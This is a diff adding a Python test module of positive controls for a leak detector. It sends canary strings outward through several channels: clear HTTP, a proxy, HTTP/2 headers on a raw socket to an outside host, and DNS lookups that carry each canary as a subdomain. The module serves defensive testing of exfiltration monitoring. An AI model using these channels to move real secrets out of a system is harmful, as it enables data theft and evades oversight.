@@ -1,0 +1,57 @@
+"""Those who leak, to be seen: without them, that nothing is found says nothing."""
+
+from __future__ import annotations
+
+import socket
+from typing import Final
+
+import h2.connection
+import httpx
+
+from .canaries import Canaries
+from .content import ORIGIN, endings
+from .ways import SHORT
+from .world import OUTSIDE, Outcomes, Scenario, World
+
+_IN_CLEAR: Final = ORIGIN.replace("https", "http")
+
+
+def in_clear(_: World, canaries: Canaries) -> Outcomes:
+    """A client as most are."""
+    with httpx.Client(trust_env=False, timeout=SHORT) as client:
+        return {"client": endings(client, _IN_CLEAR, canaries)}
+
+
+def in_clear_through_a_proxy(world: World, canaries: Canaries) -> Outcomes:
+    """A client that believes its environment."""
+    with httpx.Client(proxy=world.sink.proxy, timeout=SHORT) as client:
+        return {"client": endings(client, _IN_CLEAR, canaries)}
+
+
+def in_compressed_headers(_: World, canaries: Canaries) -> Outcomes:
+    """HTTP/2's header compression hides letters from whoever does not know it."""
+    connection = h2.connection.H2Connection()
+    connection.initiate_connection()
+    headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "x")]
+    connection.send_headers(1, [*headers, *((f"x-{kind}", word) for kind, word in canaries.items())])
+    with socket.create_connection((OUTSIDE, 80)) as stream:
+        stream.sendall(connection.data_to_send())
+    return {"client": ["sent"]}
+
+
+def in_a_name(_: World, canaries: Canaries) -> Outcomes:
+    """Names are asked for in clear."""
+    for _kind, word in canaries.items():
+        try:
+            socket.getaddrinfo(f"{word}.example", 443)
+        except OSError:
+            continue
+    return {"client": ["asked"]}
+
+
+CONTROLS: Final[dict[str, Scenario]] = {
+    "in clear": in_clear,
+    "in clear through a proxy": in_clear_through_a_proxy,
+    "in compressed headers": in_compressed_headers,
+    "in a name": in_a_name,
+}
